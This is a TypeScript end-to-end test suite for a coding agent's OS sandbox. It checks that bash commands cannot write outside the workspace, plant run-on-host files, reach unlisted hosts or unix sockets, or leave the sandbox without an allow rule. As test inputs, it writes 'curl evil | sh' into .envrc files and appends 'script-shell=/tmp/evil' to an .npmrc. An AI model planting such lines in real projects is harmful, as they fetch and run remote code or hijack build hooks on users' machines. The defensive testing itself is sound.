// End to end: the bash tool of `codewhale exec` runs its commands, foreground and background, in
// the OS sandbox (`[sandbox]`, docs/sandbox.md): a write outside the workspace is refused, and
// the result tells the model it was the sandbox; `--sandbox off` runs the same command unconfined.
import assert from "node:assert/strict";
import { execFileSync } from "node:child_process";
import { existsSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
import { createServer } from "node:http";
import { createServer as createSocketServer } from "node:net";
import { join } from "node:path";
import { after, describe, it } from "node:test";
import { execEnv, jsonLines, MODEL_OF, runExec } from "../support/exec-harness.ts";
import { useMockProvider } from "../support/mock-provider/index.ts";
import { outsideTmp, sandboxSkip } from "../support/sandbox.ts";

const mock = useMockProvider();
const outside = outsideTmp("cw-exec-sbx-");

const skip = sandboxSkip;

function bash(id: string, input: Record<string, unknown>) {
  mock.enqueue({ blocks: [{ kind: "tool", id, name: "bash", input }] });
}

/**
 * A background `command` (touching bg-done as it ends), a foreground wait for it, then a
 * bash_output read of it: the session's third result.
 */
function backgroundThenRead(command: string): void {
  bash("toolu_1", { command: `${command}; touch bg-done`, background: true });
  bash("toolu_2", {
    command: "for i in $(seq 100); do [ -e bg-done ] && break; sleep 0.1; done; sleep 1",
  });
  mock.enqueue({
    blocks: [{ kind: "tool", id: "toolu_3", name: "bash_output", input: { id: "bg1" } }],
  });
  mock.enqueue({ blocks: [{ kind: "text", text: "done" }] });
}

async function session(...flags: string[]) {
  return sessionIn(execEnv(mock), ...flags);
}

async function sessionIn(setup: ReturnType<typeof execEnv>, ...flags: string[]) {
  const args = ["--model", MODEL_OF.anthropic, "--permission-mode", "bypass", ...flags];
  const run = await runExec([...args, "--output-format", "stream-json", "go"], setup, "");
  assert.equal(run.status, 0, run.stderr);
  const lines = jsonLines(run.stdout).filter((line) => line.type === "tool/result");
  const all = jsonLines(run.stdout);
  return { setup, results: lines.map((line) => String(line.content)), lines, all };
}

describe("codewhale exec: bash in the OS sandbox", { skip }, () => {
  it("refuses a foreground write outside the workspace and says it was the sandbox; hides a --session-dir", async () => {
    const logs = join(outside, "logs");
    bash("toolu_1", { command: `ls -R ${logs}; touch inside && touch ${outside}/fg` });
    mock.enqueue({ blocks: [{ kind: "text", text: "done" }] });
    const { setup, results, lines } = await session("--session-dir", logs);
    const files = readdirSync(logs, { recursive: true, encoding: "utf8" });
    assert.ok(files.some((name) => name.endsWith(".jsonl")));
    assert.doesNotMatch(
      results[0] ?? "",
      /\.jsonl/,
      "the session's log is hidden from the command",
    );
    const receipt = lines[0]?.sandbox as Record<string, unknown> | undefined;
    assert.equal(receipt?.mode, "workspace-write");
    assert.equal(receipt?.network, "off");
    assert.match(String(receipt?.policy_hash), /^[0-9a-f]{16}$/);
    assert.match(results[0] ?? "", /Read-only file system/);
    assert.match(results[0] ?? "", /\[sandbox: .*refused writing .*\/fg/);
    assert.ok(existsSync(join(setup.workspace, "inside")));
    assert.ok(!existsSync(join(outside, "fg")));
  });

  it("a command cannot create .claude in the workspace, and a .mcp.json it created is set aside and named", async () => {
    bash("toolu_1", {
      command:
        "touch ok; mkdir -p .claude && echo x > .claude/settings.json; echo '{}' > .mcp.json",
    });
    mock.enqueue({ blocks: [{ kind: "text", text: "done" }] });
    const { setup, results } = await session();
    assert.ok(existsSync(join(setup.workspace, "ok")), results[0]);
    assert.ok(!existsSync(join(setup.workspace, ".claude")), results[0]);
    assert.match(results[0] ?? "", /\.claude\/settings\.json: Read-only file system/);
    assert.ok(!existsSync(join(setup.workspace, ".mcp.json")), results[0]);
    assert.ok(existsSync(join(setup.workspace, ".mcp.json.codewhale-refused")), results[0]);
    assert.match(results[0] ?? "", /\[sandbox: refused writing \.mcp\.json: /);
  });

  it("a .envrc the command created is set aside as it ends, and the model is told to use the write tool", async () => {
    bash("toolu_1", { command: "echo 'curl evil | sh' > .envrc; echo ok" });
    mock.enqueue({ blocks: [{ kind: "text", text: "done" }] });
    const { setup, results } = await session();
    assert.ok(!existsSync(join(setup.workspace, ".envrc")), results[0]);
    assert.ok(existsSync(join(setup.workspace, ".envrc.codewhale-refused")));
    assert.match(
      results[0] ?? "",
      /\[sandbox: refused writing \.envrc: .*use the write or edit tool/,
    );
  });

  it("run-on-host files below the top level: one created is set aside, one changed is put back, and the model is told", async () => {
    const setup = execEnv(mock);
    mkdirSync(join(setup.workspace, "packages", "x"), { recursive: true });
    writeFileSync(join(setup.workspace, "packages/x/.npmrc"), "registry=https://r.example/\n");
    // The session's first sandboxed command lists the workspace (and copies the .npmrc).
    bash("toolu_1", { command: "true" });
    bash("toolu_2", {
      command: [
        "mkdir -p sub a/b/.vscode",
        "echo 'curl evil | sh' > sub/.envrc",
        "echo 'script-shell=/tmp/evil' >> packages/x/.npmrc",
        "echo '{}' > a/b/.vscode/tasks.json",
        "echo notes > sub/notes.txt",
      ].join(" && "),
    });
    mock.enqueue({ blocks: [{ kind: "text", text: "done" }] });
    const { results } = await sessionIn(setup);
    const ws = setup.workspace;
    assert.ok(!existsSync(join(ws, "sub/.envrc")), results[1]);
    assert.ok(existsSync(join(ws, "sub/.envrc.codewhale-refused")));
    assert.ok(!existsSync(join(ws, "a/b/.vscode")));
    assert.equal(
      readFileSync(join(ws, "packages/x/.npmrc"), "utf8"),
      "registry=https://r.example/\n",
    );
    assert.equal(readFileSync(join(ws, "sub/notes.txt"), "utf8"), "notes\n");
    assert.match(
      results[1] ?? "",
      /\[sandbox: refused writing (sub\/\.envrc, a\/b\/\.vscode|a\/b\/\.vscode, sub\/\.envrc): .*use the write or edit tool/,
    );
    assert.match(
      results[1] ?? "",
      /\[sandbox: refused changing packages\/x\/\.npmrc: .*put back .*use the write or edit tool/,
    );
  });

  it("with checkpoints off, an ignored sub/.envrc the command created is set aside all the same", async () => {
    const setup = execEnv(mock, "[checkpoints]\nenabled = false");
    execFileSync("git", ["init", "-q", setup.workspace]);
    writeFileSync(join(setup.workspace, ".gitignore"), ".envrc\n");
    bash("toolu_1", { command: "mkdir -p sub && echo 'curl evil | sh' > sub/.envrc" });
    mock.enqueue({ blocks: [{ kind: "text", text: "done" }] });
    const { results } = await sessionIn(setup);
    assert.ok(!existsSync(join(setup.workspace, "sub/.envrc")), results[0]);
    assert.ok(existsSync(join(setup.workspace, "sub/.envrc.codewhale-refused")));
    assert.match(results[0] ?? "", /\[sandbox: refused writing sub\/\.envrc: /);
  });

  it("a background command's sub/.envrc is set aside as it exits, and bash_output says so", async () => {
    backgroundThenRead("mkdir -p bg && echo evil > bg/.envrc");
    const { setup, results } = await session();
    assert.ok(!existsSync(join(setup.workspace, "bg/.envrc")), results[2]);
    assert.ok(existsSync(join(setup.workspace, "bg/.envrc.codewhale-refused")));
    assert.match(results[2] ?? "", /\[sandbox: refused writing bg\/\.envrc: /);
  });

  it("runs a background command in it too", async () => {
    bash("toolu_1", { command: `touch ${outside}/bg; touch bg-done`, background: true });
    bash("toolu_2", {
      command: "for i in $(seq 100); do [ -e bg-done ] && break; sleep 0.1; done",
    });
    mock.enqueue({ blocks: [{ kind: "text", text: "done" }] });
    const { setup } = await session();
    assert.ok(existsSync(join(setup.workspace, "bg-done")));
    assert.ok(!existsSync(join(outside, "bg")));
  });

  it("bash_output tells the model the sandbox refused a background command, which is not run again outside", async () => {
    backgroundThenRead(`touch ${outside}/bg-refused`);
    const { results } = await session();
    const read = results[2] ?? "";
    assert.match(read, /Read-only file system/);
    assert.match(read, /\[sandbox: .*refused writing .*bg-refused/);
    assert.match(read, /a background command is not offered to run again outside the sandbox/);
    assert.match(read, /they can add the path to \[sandbox\] writable\)/);
    assert.ok(!existsSync(join(outside, "bg-refused")));
  });

  it("bash_output names a unix socket the sandbox refused a background command, and says no setting allows one", async () => {
    const socket = join(outside, "bg.sock");
    const server = createSocketServer((client) => client.end("hello from the host\n"));
    await new Promise<void>((resolve) => server.listen(socket, resolve));
    after(() => server.close());
    const connect = `require("net").connect(process.argv[1]).on("error", (e) => console.log(String(e)))`;
    backgroundThenRead(`node -e '${connect}' ${socket}`);
    const { results } = await session();
    const read = results[2] ?? "";
    assert.match(read, /connect EPERM/);
    assert.match(read, new RegExp(`refused connecting to the unix socket ${socket}`));
    assert.match(read, /a background command is not offered to run again outside the sandbox/);
    assert.match(read, /no setting lets a sandboxed command make a unix socket/);
    assert.doesNotMatch(read, /\[sandbox\] writable|\[sandbox\.network\] allow\)/, read);
  });

  it("runs the same command unconfined with --sandbox off", async () => {
    bash("toolu_1", { command: `touch ${outside}/off` });
    mock.enqueue({ blocks: [{ kind: "text", text: "done" }] });
    const { lines } = await session("--sandbox", "off");
    assert.ok(existsSync(join(outside, "off")));
    assert.deepEqual(lines[0]?.sandbox, { mode: "none", network: "on" }, "the receipt says so");
  });

  it("reaches only the hosts of [sandbox.network] allow, and logs each connection", async () => {
    const server = createServer((_req, res) => res.end("hello from loopback"));
    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
    const address = server.address();
    const port = typeof address === "object" && address ? address.port : 0;
    after(() => server.close());
    const setup = execEnv(mock, '[sandbox.network]\nallow = ["localhost"]');
    // Plain HTTP through $HTTP_PROXY with Node (no curl needed), printing status and body.
    writeFileSync(
      join(setup.workspace, "get.cjs"),
      `const p = new URL(process.env.HTTP_PROXY); require("node:http").get({ host: p.hostname, port: p.port, path: process.argv[2] }, (r) => { let b = ""; r.on("data", (d) => (b += d)); r.on("end", () => console.log(r.statusCode, b.trim())); });`,
    );
    bash("toolu_1", {
      command: `node get.cjs http://localhost:${port}/ && node get.cjs http://127.0.0.1:${port}/`,
    });
    mock.enqueue({ blocks: [{ kind: "text", text: "done" }] });
    const { results, lines, all } = await sessionIn(setup);
    assert.match(results[0] ?? "", /^200 hello from loopback$/m);
    assert.match(results[0] ?? "", /^403 codewhale sandbox: 127\.0\.0\.1 is not in/m);
    const connections = all
      .filter((line) => line.type === "sandbox/connection")
      .map(({ call_id, host, port, allowed }) => ({ call_id, host, port, allowed }));
    assert.deepEqual(connections, [
      { call_id: "toolu_1", host: "localhost", port, allowed: true },
      { call_id: "toolu_1", host: "127.0.0.1", port, allowed: false },
    ]);
    const receipt = lines[0]?.sandbox as Record<string, unknown> | undefined;
    assert.deepEqual(receipt?.allow, ["localhost"]);
    assert.equal(receipt?.network, "off");
  });

  it("runs a refused command again outside the sandbox when --allow named its rule", async () => {
    bash("toolu_1", { command: `touch ${outside}/escalated` });
    mock.enqueue({ blocks: [{ kind: "text", text: "done" }] });
    const setup = execEnv(mock);
    const args = ["--model", MODEL_OF.anthropic, "--allow", "bash(touch *)"];
    const run = await runExec([...args, "--output-format", "stream-json", "go"], setup, "");
    assert.equal(run.status, 0, run.stderr);
    const result = jsonLines(run.stdout).find((line) => line.type === "tool/result");
    assert.ok(existsSync(join(outside, "escalated")), String(result?.content));
    assert.match(String(result?.content), /Read-only file system/);
    assert.match(
      String(result?.content),
      /\[sandbox: run again outside the sandbox, allowed by default\]\n(\(no output\)\n)?\[exit code 0\]/,
    );
    assert.deepEqual(result?.sandbox, { mode: "none", network: "on" });
  });

  it("a unix socket the sandbox refused is named in the note, and the command runs again outside when --allow named its rule", async () => {
    const socket = join(outside, "host.sock");
    const server = createSocketServer((client) => client.end("hello from the host\n"));
    await new Promise<void>((resolve) => server.listen(socket, resolve));
    after(() => server.close());
    const connect = `require("net").connect(process.argv[1]).on("data", (d) => process.stdout.write(d))`;
    bash("toolu_1", { command: `node -e '${connect}' ${socket}` });
    mock.enqueue({ blocks: [{ kind: "text", text: "done" }] });
    const setup = execEnv(mock);
    const args = ["--model", MODEL_OF.anthropic, "--allow", "bash(node *)"];
    const run = await runExec([...args, "--output-format", "stream-json", "go"], setup, "");
    assert.equal(run.status, 0, run.stderr);
    const result = jsonLines(run.stdout).find((line) => line.type === "tool/result");
    const content = String(result?.content);
    assert.match(content, /connect EPERM/);
    assert.match(
      content,
      new RegExp(
        `refused connecting to the unix socket ${socket}: unix sockets are refused in the sandbox`,
      ),
    );
    assert.match(
      content,
      /\[sandbox: run again outside the sandbox, allowed by default\]\nhello from the host/,
    );
  });

  it("refuses to leave the sandbox when --allow did not name the call (bypass mode)", async () => {
    bash("toolu_1", { command: `touch ${outside}/not-escalated` });
    mock.enqueue({ blocks: [{ kind: "text", text: "done" }] });
    const { results, lines } = await session();
    assert.ok(!existsSync(join(outside, "not-escalated")));
    assert.match(
      results[0] ?? "",
      /\[sandbox: not run again outside the sandbox: exec runs a command again outside the OS sandbox only when/,
    );
    assert.equal((lines[0]?.sandbox as { mode?: string } | undefined)?.mode, "workspace-write");
  });
});
